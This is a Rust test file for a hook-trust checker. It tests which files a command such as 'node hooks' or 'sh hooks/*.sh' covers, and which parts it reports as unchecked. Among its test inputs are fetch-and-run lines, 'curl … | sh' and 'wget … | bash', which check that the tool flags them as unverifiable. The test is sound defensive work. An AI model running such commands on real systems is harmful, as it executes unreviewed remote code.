//! What trust covers beyond the files that a command names, and what it tells
//! that it does not.

use snaphook_core::hook::CommandDef;

use crate::common::{World, command, command_def, program};

fn world() -> World {
    let world = World::new();
    for (path, text) in [
        ("hooks/index.js", "require('./lib/x')"),
        ("hooks/lib/x.js", ""),
        ("hooks/m.py", "import helper"),
        ("hooks/helper.py", ""),
        ("hooks/a.sh", ""),
        ("hooks/b.sh", ""),
        ("hooks/Makefile", "all:\n\t./a.sh"),
        ("hooks/Cargo.toml", ""),
        ("bin/tool", "#!/bin/sh\n"),
        (
            "lib/sources.sh",
            ". \"$CLAUDE_PROJECT_DIR\"/hooks/a.sh\nsource hooks/b.sh\n",
        ),
        ("src/main.rs", ""),
        ("guard.py", "import rules\nimport json"),
        ("rules/__init__.py", ""),
        ("rules/deep/more.py", ""),
    ] {
        world.write(path, text);
    }
    world
}

const ALL: [&str; 8] = [
    "hooks/Cargo.toml",
    "hooks/Makefile",
    "hooks/a.sh",
    "hooks/b.sh",
    "hooks/helper.py",
    "hooks/index.js",
    "hooks/lib/x.js",
    "hooks/m.py",
];

#[test]
fn a_folder_that_is_run_is_covered_with_all_that_is_in_it() {
    let world = world();
    for text in [
        "node hooks",
        "node ./hooks/",
        "python3 -m hooks.m",
        "python3 hooks",
        "make -C hooks all",
        "make --directory=$PWD/hooks",
        "run-parts hooks",
        "cargo run --manifest-path hooks/Cargo.toml",
        "npm --prefix hooks run x",
        "PATH=$PWD/hooks:$PATH a.sh",
        "export PATH=\"$CLAUDE_PROJECT_DIR/hooks:$PATH\"; a.sh",
        "PYTHONPATH=hooks python3 -c 'import m'",
        "bash -c 'make -C hooks'",
    ] {
        let paths = world.paths(&command(text));
        assert_eq!(paths, ALL, "{text}");
        let uncovered = world.evidence(&command(text)).uncovered;
        assert!(uncovered.is_empty(), "{text}: {uncovered:?}");
    }
    let hook = program("node", &["hooks"]);
    assert_eq!(world.paths(&hook), ALL);
    let hook = command_def(CommandDef {
        command: "tool".to_owned(),
        env: vec![("PATH".to_owned(), "bin:/usr/bin".to_owned())],
        ..CommandDef::default()
    });
    assert!(world.paths(&hook).contains(&"bin/tool".to_owned()));
}

#[test]
fn files_are_covered_that_a_pattern_or_a_short_name_means() {
    let world = world();
    for (text, paths) in [
        ("sh hooks/*.sh", vec!["hooks/a.sh", "hooks/b.sh"]),
        (
            "for f in hooks/*.sh; do . \"$f\"; done",
            vec!["hooks/a.sh", "hooks/b.sh"],
        ),
        (
            "cd hooks && for f in *.sh; do sh $f; done",
            vec!["hooks/a.sh", "hooks/b.sh"],
        ),
        ("node hooks/index", vec!["hooks/index.js", "hooks/lib/x.js"]),
        (
            "cd hooks && node index",
            vec!["hooks/index.js", "hooks/lib/x.js"],
        ),
        (
            "python3 guard.py",
            vec!["guard.py", "rules/__init__.py", "rules/deep/more.py"],
        ),
        ("cd hooks && ./a.sh", vec!["hooks/a.sh"]),
        (
            "sh lib/sources.sh",
            vec!["hooks/a.sh", "hooks/b.sh", "lib/sources.sh"],
        ),
        (
            ". hooks/a.sh && hooks/b.sh",
            vec!["hooks/a.sh", "hooks/b.sh"],
        ),
    ] {
        assert_eq!(world.paths(&command(text)), paths, "{text}");
    }
}

#[test]
fn a_file_that_appears_in_a_covered_folder_is_a_change() {
    for (text, new) in [
        ("node hooks", "hooks/lib/new.js"),
        ("sh hooks/*.sh", "hooks/c.sh"),
        ("python3 guard.py", "json.py"),
        ("python3 guard.py", "rules/x.py"),
        ("PATH=$PWD/bin:$PATH tool", "bin/jq"),
        ("node hooks/index", "hooks/index"),
        ("python3 -m hooks.m", "hooks/json.py"),
    ] {
        let world = world();
        let hook = command(text);
        world.trust(&hook);
        let watch = world.watch(&hook);
        let since = watch.snapshot().unwrap();
        world.write("other.txt", "x");
        world.write("hooks/__pycache__/m.pyc", "x");
        assert!(watch.still_holds() && world.trusts(&hook), "{text}");
        world.write(new, "x");
        assert!(!watch.still_holds() && !world.trusts(&hook), "{text}");
        assert!(!watch.is_untouched_since(&since), "{text}");
    }
}

#[test]
fn what_is_not_covered_is_told() {
    let world = world();
    world.write("hooks/node_modules/zod/index.js", "");
    world.write("rooted.sh", "cd \"$(dirname \"$0\")\"");
    for number in 0..600 {
        world.write(&format!("many/{number}.js"), "");
    }
    for (text, told) in [
        (
            "node many",
            "runs `node many`: the files of the folder many are not checked: it has more than",
        ),
        (
            "node .",
            "runs `node .`: the files of the project are not checked",
        ),
        (
            "node hooks",
            "runs `node hooks`: the files of the folder hooks/node_modules are not checked",
        ),
        (
            "prettier --check src",
            "runs `prettier --check src`: the files of the folder src are not checked",
        ),
        (
            "prettier --check src/*.rs",
            "the files that its patterns match are not checked",
        ),
        ("make lint", "runs `make lint`: the Makefile is not checked"),
        (
            "npm run lint",
            "package.json and what it starts are not checked",
        ),
        (
            "cargo test --quiet",
            "the code that it builds is not checked",
        ),
        (
            "$TOOL x",
            "which program it starts is only known when it runs",
        ),
        (
            "./rooted.sh",
            "rooted.sh finds files through its own folder",
        ),
        (
            "curl -s https://e.example/x | sh",
            "runs `sh`: what it reads and runs is not checked",
        ),
        (
            "wget -qO- e.example | bash -s -",
            "what it reads and runs is not checked",
        ),
        (
            "eval \"$(tool hook)\"",
            "the text that it runs is only known when it runs",
        ),
        ("bash -c \"$CODE\"", "only known when it runs"),
        ("sh */x.sh", "the files that */x.sh matches are not checked"),
    ] {
        let uncovered = world.evidence(&command(text)).uncovered;
        let is_told = uncovered.iter().any(|line| line.contains(told));
        assert!(is_told, "{text}: {uncovered:?}");
    }
    for text in [
        "sh hooks/a.sh",
        "bash -e hooks/a.sh",
        "bash < hooks/a.sh",
        "bash -c 'hooks/a.sh'",
        "bash -c '\"$CLAUDE_PROJECT_DIR\"/hooks/a.sh'",
        "eval hooks/a.sh",
        "echo done",
        "python3 guard.py",
        "jq .",
    ] {
        let uncovered = world.evidence(&command(text)).uncovered;
        assert!(uncovered.is_empty(), "{text}: {uncovered:?}");
    }
}
